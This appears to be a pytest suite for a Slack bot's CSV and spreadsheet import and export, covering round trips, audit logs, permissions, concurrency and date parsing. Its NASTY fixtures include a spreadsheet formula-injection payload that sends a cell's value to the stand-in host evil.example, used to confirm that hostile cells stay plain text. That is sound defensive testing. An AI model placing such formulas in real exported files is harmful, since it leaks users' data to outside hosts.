"""Lists that go out and come back, on both engines: nothing changes by itself, everything or nothing changes on purpose."""

from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, date, time, timedelta
from typing import Any, Final

import pytest
from builders import NOW
from furnished import furnish, season
from operations.people import cluster, held, settle, somebody
from sqlalchemy import event
from sqlalchemy import text as sql
from sqlmodel import Session, col, select

from bot.files import Form, read, write
from bot.operations import exchange, perform
from bot.operations.clusters import edit
from bot.operations.endings import hold
from bot.operations.permissions import actor_of
from bot.operations.representations import claim
from bot.rules.exchange import Kind, Noun, Plan, Wrong, table_of
from bot.rules.members import Claimed
from bot.rules.permissions import Actor, Refused
from bot.rules.tables import Table
from bot.rules.versions import Saved
from bot.texts import exchange as say
from store import exchange as stored
from store.database import Database, open_database
from store.database import read as ask
from store.members import by_slack_id
from store.models import (
    Cluster,
    ClusterFact,
    ClusterText,
    CountrySection,
    Entry,
    Member,
    MemberState,
    Representation,
    RepresentationRole,
    RepresentationState,
    Revision,
    Source,
    metadata,
)
from store.network import stamp
from store.transaction import transaction

LATER = NOW + timedelta(hours=1)
FORMULA = '=HYPERLINK("http://evil.example?x="&A1;"open")'
NASTY = (
    FORMULA,
    "'=1+1",
    "@SUM(1;=2)",
    "-5 %; +33 1 23",
    "a | b \\ c \\| d",
    "\tTab, “quotes”, \"more\", 'less'",
    "عربي \u202eright to left\u202c 日本語 👩‍👩‍👧‍👦 <!channel> &amp;",
    "one\r\ntwo\n\n\nthree  ",
    "_x000D_ \x0b \x01",
)


@pytest.fixture
def full(database: Database) -> Database:
    """The whole data set, with the sample people."""
    furnish(database, *season())
    return database


def everything(db: Session) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every table."""
    connection = db.connection()
    return {table.name: sorted((tuple(row) for row in connection.execute(table.select())), key=repr) for table in metadata.sorted_tables}


def exported(database: Database, noun: Noun, form: Form = Form.CSV, delimiter: str = ",") -> bytes:
    """A list as a file."""
    return write(table_of(noun, ask(database, stored.rows, noun)), form, delimiter=delimiter)


def taken(database: Database, noun: Noun, table: Table | bytes | str, actor: Actor | None = None) -> Plan:
    """What became of a file."""
    if isinstance(table, str):
        table = table.encode()
    came = read(table, "x.csv", noun) if isinstance(table, bytes) else table
    plan = perform(database, exchange.apply, actor=actor, noun=noun, table=came, now=LATER)
    assert isinstance(plan, Plan)
    return plan


def what(plan: Plan) -> list[tuple[int, str, str]]:
    """The troubles in short; each can be said."""
    assert all(say.trouble(one, plan.counted) for one in plan.troubles)
    return [(one.line, one.column, str(one.what or one.fault.problem)) for one in plan.troubles]


@pytest.mark.parametrize("form", Form)
def test_the_whole_data_set_out_and_in_changes_nothing(full: Database, form: Form) -> None:
    """Every list, in every form: not one row of any table differs afterwards, and each row is the same."""
    before = ask(full, everything)
    for noun in Noun:
        plan = taken(full, noun, read(exported(full, noun, form, ";"), f"x.{form}", noun))
        assert (plan.troubles, plan.new, plan.changed, plan.missing) == ((), 0, 0, 0)
        assert plan.same == len(ask(full, stored.rows, noun)) > 0
    assert ask(full, everything) == before


def hostile(db: Session) -> None:
    """Rows in which every text is one that wants to break a file, also beyond today's limits."""
    for number, text in enumerate(NASTY):
        key = f"nasty-{number}"
        db.add(Source(key=key, title=text))
        lists: dict[str, Any] = {name: [text, text, f" {text}", ""] for name in ("aliases", "specialisations", "services", "labels")}
        cluster = Cluster(key=key, name=text, website=text, video=text, hours=text * 50, links=[[text, text]], **lists)
        db.add(cluster)
        db.flush()
        assert cluster.id is not None
        db.add_all(ClusterText(cluster_id=cluster.id, language=language, presentation=text * 300) for language in ("en", "xx-unknown"))
        db.add(ClusterFact(cluster_id=cluster.id, name=text, value=text, year=99_999, source=key))
        answers = {"who_sells": text, "gone_question": f"x\nlabel: {text}"}
        country = ("KR", "JP", "FR", "IT", "ES", "PT", "BE", "US", "CA")[number]
        db.add(CountrySection(country=country, name="regulation", text=text, source=key, answers=answers, checked_on=date(2999, 1, 1)))
        db.add(Member(slack_id=f"UNASTY{number}", name=text, zone="Nowhere/At all", locale=text, quiet_from=time(23, 59), muted=[text]))


@pytest.mark.parametrize("form", Form)
def test_hostile_data_out_and_in_changes_nothing(database: Database, form: Form) -> None:
    """What stands there already is not checked: a file that changes nothing changes nothing."""
    perform(database, hostile)
    before = ask(database, everything)
    for noun in Noun:
        plan = taken(database, noun, read(exported(database, noun, form), f"x.{form}", noun))
        assert (plan.troubles, plan.same) == ((), len(NASTY))
    after = ask(database, everything)
    assert {name: rows for name, rows in after.items() if name != "network"} == {n: r for n, r in before.items() if n != "network"}


@pytest.mark.parametrize("form", Form)
def test_a_network_can_be_moved_to_an_empty_database(full: Database, form: Form) -> None:
    """The lists in their order make the same lists again."""
    files = {noun: exported(full, noun, form) for noun in Noun}
    perform(
        full, lambda db: [db.connection().execute(table.delete()) for table in reversed(metadata.sorted_tables) if table.name != "audit"]
    )
    for noun, data in files.items():
        plan = taken(full, noun, read(data, f"x.{form}", noun))
        assert (what(plan), plan.changed, plan.same) == ([], 0, 0)
    ignored = {"number", "version"}
    for noun, data in files.items():
        old = [{**row.cells} for row in read(data, f"x.{form}", noun).rows]
        new = [{**row.cells} for row in read(exported(full, noun, form), f"x.{form}", noun).rows]
        assert [{k: v for k, v in row.items() if k not in ignored} for row in new] == [
            {k: v for k, v in row.items() if k not in ignored} for row in old
        ]


def test_what_is_missing_is_left_alone_and_counted(full: Database) -> None:
    """Rows and columns that the file does not have stay as they are; an empty cell empties its field."""
    plan = taken(full, Noun.CLUSTERS, "key;since;hours\ncosmetic-valley;;Monday to Friday\n")
    assert (plan.changed, plan.missing, plan.applied) == (1, 15, True)
    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
    assert (row["since"], row["hours"], row["name"], len(row["facts"])) == (None, "Monday to Friday", "Cosmetic Valley", 5)


def test_a_change_keeps_what_was_and_says_who(full: Database) -> None:
    """The version before is kept, feeds are told, and the audit log names the operator or the secretariat's member, no content."""
    revision = ask(full, stamp)
    taken(full, Noun.CLUSTERS, "key,website\ncosmetic-valley,https://new.example\n")
    with Session(full.reader) as db:
        [kept] = db.exec(select(Revision)).all()
        [entry] = db.exec(select(Entry).where(col(Entry.verb) == "network.import")).all()
        cluster = db.exec(select(Cluster).where(col(Cluster.key) == "cosmetic-valley")).one()
    assert (kept.noun, kept.subject, kept.number, kept.data["website"], kept.author_id) == ("clusters", str(cluster.id), 0, "", None)
    assert (entry.role, entry.verb, entry.actor_id, entry.fields, entry.cluster_id) == (
        "operator",
        "network.import",
        None,
        ["website"],
        cluster.id,
    )
    assert (cluster.website, cluster.version) == ("https://new.example", 1)
    after = ask(full, stamp)
    assert revision is not None
    assert after is not None
    assert after.revision > revision.revision


def actor(database: Database, slack_id: str) -> Actor:
    """Somebody as the door loads them."""
    return actor_of(ask(database, by_slack_id, slack_id), slack_id, outsider=False)


def test_only_the_secretariat_may_and_is_named(full: Database) -> None:
    """A point of contact is refused, and nothing changes; the secretariat's member stands in the audit log."""
    came = read(b"key,website\ncosmetic-valley,https://new.example\n", "x.csv", Noun.CLUSTERS)
    before = ask(full, everything)
    refused = perform(full, exchange.apply, actor=actor(full, "UPARIS02"), noun=Noun.CLUSTERS, table=came, now=LATER)
    assert isinstance(refused, Refused)
    assert ask(full, everything) == before
    paris = actor(full, "UPARIS01")
    assert taken(full, Noun.CLUSTERS, came, paris).applied
    with Session(full.reader) as db:
        [entry] = db.exec(select(Entry).where(col(Entry.verb) == "network.import")).all()
    assert (entry.actor_id, entry.role) == (paris.member_id, "secretariat")


def test_an_edit_made_since_the_export_is_not_lost(full: Database) -> None:
    """A file is changed in one column, the page meanwhile in another: both stay."""
    data = exported(full, Noun.CLUSTERS).decode("utf-8-sig").replace('"Cosmetic Valley"', '"Cosmetic Valley France"')
    paris = actor(full, "UPARIS02")
    [number] = paris.contact_of
    saved = perform(full, edit, actor=paris, cluster_id=number, version=0, changes={"hours": "Always"}, now=NOW)
    assert isinstance(saved, Saved)
    plan = taken(full, Noun.CLUSTERS, data)
    [change] = [one for one in plan.changes if one.kind == Kind.CHANGED]
    assert [field.name for field in change.fields] == ["name"]
    assert set(change.meanwhile) == {"hours", "checked_on"}
    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
    assert (row["name"], row["hours"]) == ("Cosmetic Valley France", "Always")


def test_with_one_bad_row_nothing_is_changed(full: Database) -> None:
    """The good rows of the file wait, too."""
    before = ask(full, everything)
    plan = taken(full, Noun.CLUSTERS, "key,website\ncosmetic-valley,https://new.example\niba,nowhere\n")
    assert what(plan) == [(3, "website", "address")]
    assert (plan.changed, plan.applied) == (1, False)
    assert ask(full, everything) == before


def test_a_thousand_rows_with_three_bad_ones_name_all_three(database: Database) -> None:
    """And without them a thousand clusters are there, with every field a formula as text."""
    rows = [f'c-{n},"{n} =1+1",KR,"@a{n}\n+b{n}",-x,https://c{n}.example,=SUM(A1)' for n in range(1000)]
    heading = "key,name,countries,aliases,hours,website,presentation"
    bad = [*rows]
    bad[9], bad[499], bad[998] = "c-9,x,ZZ,,,,", "c-499,y,KR,,,nowhere,", "c-9,z,KR,,,,"
    lines = [2 + 2 * 9, 1 + 2 * 499, 2 * 998]  # each good row has two lines
    plan = taken(database, Noun.CLUSTERS, "\n".join([heading, *bad]))
    assert what(plan) == [(lines[0], "countries", "country"), (lines[1], "website", "address"), (lines[2], "key", "key_twice")]
    assert ask(database, stored.clusters) == []
    assert taken(database, Noun.CLUSTERS, "\n".join([heading, *rows])).new == 1000
    last = ask(database, stored.clusters)[-1]
    assert (last["aliases"], last["hours"], last["presentation"]) == (["@a999", "+b999"], "-x", "=SUM(A1)")
    assert taken(database, Noun.CLUSTERS, exported(database, Noun.CLUSTERS)).same == 1000


def test_two_at_once_follow_each_other(full: Database) -> None:
    """The same new cluster in two files at one moment is made once; an edit at that moment is neither lost nor in the way."""
    paris = actor(full, "UPARIS02")
    [number] = paris.contact_of
    text = "key,name,countries,hours\nnew-one,New,KR,\ncosmetic-valley,Cosmetic Valley,FR,Always\n"
    with ThreadPoolExecutor(3) as pool:
        files = [pool.submit(taken, full, Noun.CLUSTERS, text) for _ in range(2)]
        change = {"actor": paris, "cluster_id": number, "version": 0, "changes": {"website": "https://new.example"}, "now": NOW}
        edited = pool.submit(perform, full, edit, **change)
        plans = [one.result(60) for one in files]
    assert isinstance(edited.result(), Saved)
    assert sorted(plan.new for plan in plans) == [0, 1]
    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
    assert (row["hours"], row["website"], row["version"]) == ("Always", "https://new.example", 2)


def statements(database: Database, noun: Noun, text: str) -> int:
    """How many statements a file takes: as long as they last, nobody else writes. SQLite inserts numbered rows one by one."""
    counted: list[str] = []

    def count(_connection: Any, _cursor: Any, statement: str, *_rest: Any) -> None:
        counted.extend([] if statement.startswith("INSERT") else [statement])

    event.listen(database.writer, "before_cursor_execute", count)
    plan = taken(database, noun, text)
    event.remove(database.writer, "before_cursor_execute", count)
    assert (plan.applied, plan.new + plan.changed) == (True, text.count("\n") - 1)
    return len(counted)


FILES: Final = (
    (
        Noun.CLUSTERS,
        "key,name,countries,presentation,language,presentation_in_language,facts",
        "c-{n},C {n},KR,A,fr,B,F | 1 | 2020 | S {n}",
    ),
    (
        Noun.CLUSTERS,
        "key,countries,presentation,language,presentation_in_language,hours,facts",
        "c-{n},JP,C,it,D,Always,F | 2 | 2021 | T {n}",
    ),
    (Noun.MEMBERS, "slack_id,name,contact_of,represents", "UX{n},Person {n},c-{n},"),
    (Noun.MEMBERS, "slack_id,contact_of,represents", "UX{n},,c-{n}"),
    (Noun.MEMBERS, "slack_id,represents", "UX{n},"),
    (Noun.MEMBERS, "slack_id,contact_of", "UX{n},c-{n}"),
    (Noun.CLUSTERS, "key,retired", "c-{n},yes"),
)


def test_many_rows_take_as_many_statements_as_a_few(database: Database) -> None:
    """A file of a thousand rows does not hold everybody up: what is new, what changes, and what ends."""
    for noun, heading, row in FILES:
        few, many = (
            statements(database, noun, "\n".join([heading, *(row.format(n=n) for n in numbers), ""]))
            for numbers in (range(100, 103), range(103, 150))
        )
        assert many == few, heading


def test_a_plan_made_before_holds_only_while_nothing_has_changed(full: Database) -> None:
    """What somebody saved between the plan and its turn is neither overlooked nor written over."""
    table = read(b"key,website,hours\ncosmetic-valley,https://new.example,Always\n", "x.csv", Noun.CLUSTERS)
    planned = ask(full, exchange.plan, noun=Noun.CLUSTERS, table=table, now=LATER)
    paris = actor(full, "UPARIS02")
    [number] = paris.contact_of
    perform(full, edit, actor=paris, cluster_id=number, version=0, changes={"hours": "Always", "since": 1994}, now=NOW)
    plan = perform(full, exchange.apply, actor=None, noun=Noun.CLUSTERS, table=table, now=LATER, planned=planned)
    assert [[field.name for field in change.fields] for change in plan.changes] == [["website"]]
    [row] = [one for one in ask(full, stored.clusters) if one["key"] == "cosmetic-valley"]
    assert (row["website"], row["hours"], row["since"], row["version"]) == ("https://new.example", "Always", 1994, 2)
    with Session(full.reader) as db:
        kept = db.exec(select(Revision).order_by(col(Revision.number))).all()
    assert [(one.data["hours"], one.data["website"]) for one in kept] == [("", ""), ("Always", "")]


def test_an_import_of_people_and_a_claim_never_wait_in_a_circle(postgres_url: str) -> None:
    """Who claims has locked a cluster and then points to a person; the import has locked the people and waits for the clusters."""
    database = open_database(postgres_url)
    settle(database, ["Alpha"], UNEW="", UCON="Alpha/contact")
    table = read(b"slack_id,represents\nUCON,alpha\n", "x.csv", Noun.MEMBERS)
    with ThreadPoolExecutor(1) as pool:
        with transaction(database) as db:
            hold(db, cluster(database, "Alpha"))
            imported = pool.submit(perform, database, exchange.apply, actor=None, noun=Noun.MEMBERS, table=table, now=LATER)
            waiting(database)
            assert isinstance(claim(db, actor=somebody("UNEW"), cluster_id=cluster(database, "Alpha"), now=NOW), Claimed)
        assert imported.result(30).changed == 1
    assert held(database)["UNEW", "Alpha"] == ("representative", "pending")
    database.dispose()


def waiting(database: Database) -> None:
    """Until somebody waits for a lock."""
    locks = sql("SELECT count(*) FROM pg_locks WHERE NOT granted")
    with Session(database.reader) as db:
        while not db.connection().execute(locks).scalar_one():
            pass


def test_an_import_leaves_a_secretariat_that_can_act(database: Database) -> None:
    """Somebody whom nobody has met does not count: the file would lock everybody out."""
    settle(database, ["Alpha"], UCON="")
    plan = taken(database, Noun.MEMBERS, "slack_id,role\nUSEC,\nUGHOST99,secretariat\n", actor(database, "USEC"))
    assert what(plan) == [(2, "role", "no_secretariat")]
    assert not plan.applied
    assert taken(database, Noun.MEMBERS, "slack_id,role\nUSEC,\nUCON,secretariat\n", actor(database, "USEC")).applied


def test_a_date_that_excel_rewrote_is_still_the_same_day(full: Database) -> None:
    """A French Excel saves 2026-03-01 as 01/03/2026."""
    assert taken(full, Noun.CLUSTERS, "key,checked_on\niba,2026-03-01\n").changed == 1
    for written in ("01/03/2026", "3/1/2026", "1.3.2026", "2026. 3. 1", "2026/03/01"):
        assert taken(full, Noun.CLUSTERS, f"key,checked_on\niba,{written}\n").same == 1
    assert taken(full, Noun.CLUSTERS, "key,checked_on\niba,28/03/2026\n").changed == 1
    older = taken(full, Noun.CLUSTERS, "key,checked_on\niba,2026-03-01\n")
    assert (older.same, older.changes[0].meanwhile) == (1, ("checked_on",))


def test_retiring_by_a_file_is_as_retiring_by_a_button(full: Database) -> None:
    """Its people act for it no longer, and it comes back without them."""
    assert taken(full, Noun.CLUSTERS, "key,retired\niba,yes\n").changed == 1
    with Session(full.reader) as db:
        row = db.exec(select(Cluster).where(col(Cluster.key) == "iba")).one()
        assert db.exec(select(Representation).where(col(Representation.cluster_id) == row.id)).all() == []
    assert row.retired_at is not None
    assert row.retired_at.astimezone(UTC).date() == LATER.date()
    assert taken(full, Noun.CLUSTERS, exported(full, Noun.CLUSTERS)).same == 16
    assert taken(full, Noun.MEMBERS, "slack_id,represents\nUCALI01,iba\n").troubles[0].what == Wrong.CLUSTER_RETIRED
    assert taken(full, Noun.CLUSTERS, "key,retired\niba,\n").changes[0].meanwhile == ("retired",)
    assert taken(full, Noun.CLUSTERS, "key,retired\niba,no\n").changed == 1


def part(database: Database, key: str) -> dict[str, Any] | None:
    """One part of a country's profile."""
    return next((one for one in ask(database, stored.countries) if one["key"] == key), None)


def test_parts_of_countries_come_by_file(full: Database) -> None:
    """New with answers and source, changed, and taken away when nothing is left; history keeps each."""
    answers = "label: In Korean.\nAnd: English.\nwho_sells: All"
    text = f'country,section,answers,text,source,checked_on\nkr,Regulation,"{answers}",Text,A law,2026-01-31\n'
    assert taken(full, Noun.COUNTRIES, text).new == 1
    written = part(full, "KR/regulation")
    assert written is not None
    assert written["answers"] == {"label": "In Korean.\nAnd: English.", "who_sells": "All"}
    assert (written["source"], written["checked_on"]) == ("A law", date(2026, 1, 31))
    assert taken(full, Noun.COUNTRIES, exported(full, Noun.COUNTRIES)).same == 5
    assert taken(full, Noun.COUNTRIES, "country,section,answers,text\nKR,regulation,,\n").changed == 1
    assert part(full, "KR/regulation") is None
    with Session(full.reader) as db:
        kept = db.exec(select(Revision).where(col(Revision.subject) == "KR/regulation").order_by(col(Revision.number))).all()
    assert [one.data.get("text") for one in kept] == [None, "Text"]


def acts(database: Database) -> set[tuple[str, str, str]]:
    """Who acts for whom, as what."""
    rows = ask(database, stored.members)
    return {(row["key"], name, key) for row in rows for name in ("contact_of", "represents") for key in row[name]}


def test_people_come_by_file_and_act_at_once(full: Database) -> None:
    """A new person by Slack id, confirmed; a claim that waited is confirmed; who was the point of contact becomes a representative."""

    def claim(db: Session) -> None:
        member = db.exec(select(Member).where(col(Member.slack_id) == "UCALI01")).one()
        cluster = db.exec(select(Cluster).where(col(Cluster.key) == "iba")).one()
        db.add(Representation(member_id=member.id, cluster_id=cluster.id, claimed_at=NOW))

    perform(full, claim)
    before = acts(full)
    text = "slack_id,name,zone,contact_of,represents\nUNEW01,Newcomer Cali,America/Bogota,cali-valle-del-cauca,iba\nUCALI01,,,,iba\n"
    plan = taken(full, Noun.MEMBERS, text)
    assert (what(plan), plan.new, plan.changed) == ([], 1, 1)
    assert plan.changes[1].left == ("name", "zone")
    now = acts(full)
    assert now - before == {
        ("UNEW01", "contact_of", "cali-valle-del-cauca"),
        ("UNEW01", "represents", "iba"),
        ("UCALI01", "represents", "iba"),
    }
    assert before - now == {("UCALI01", "contact_of", "cali-valle-del-cauca")}
    with Session(full.reader) as db:
        decided = db.exec(select(Representation).where(col(Representation.decided_at) == LATER)).all()
        assert {one.state for one in decided} == {RepresentationState.CONFIRMED}
        assert len(decided) == 3
    assert taken(full, Noun.MEMBERS, exported(full, Noun.MEMBERS)).same == 15


def test_who_is_replaced_by_a_file_stays_a_representative(full: Database) -> None:
    """One point of contact a cluster, also when the file does not speak of the one until now."""
    taken(full, Noun.MEMBERS, "slack_id,contact_of\nUKARATSU02,japan-cosmetic-center\n")
    assert {("UKARATSU02", "contact_of", "japan-cosmetic-center"), ("UKARATSU01", "represents", "japan-cosmetic-center")} <= acts(full)
    with Session(full.reader) as db:
        fields = [tuple(entry.fields) for entry in db.exec(select(Entry)).all()]
    assert (RepresentationRole.REPRESENTATIVE,) in fields


def test_what_is_a_persons_own_stays_theirs(full: Database) -> None:
    """Slack tells names and zones, people choose quiet hours: a file that differs there changes nothing, and says so."""
    before = ask(full, everything)
    plan = taken(full, Noun.MEMBERS, "slack_id,name,zone,quiet_from,fewer,state\nUCALI01,Other,Europe/Paris,01:00,yes,gone\n")
    assert (plan.same, set(plan.changes[0].left)) == (1, {"name", "zone", "quiet_from", "fewer", "state"})
    assert ask(full, everything) == before


def test_who_was_erased_does_not_come_back_by_an_old_file(full: Database) -> None:
    """An export of before still holds them: the row is named, and they are in no new export."""
    data = exported(full, Noun.MEMBERS)

    def erase(db: Session) -> None:
        member = db.exec(select(Member).where(col(Member.slack_id) == "UCALI01")).one()
        member.slack_id, member.name, member.state = None, "", MemberState.ERASED

    perform(full, erase)
    plan = taken(full, Noun.MEMBERS, data)
    assert [one[2] for one in what(plan)] == ["erased"]
    assert b"UCALI01" not in exported(full, Noun.MEMBERS)
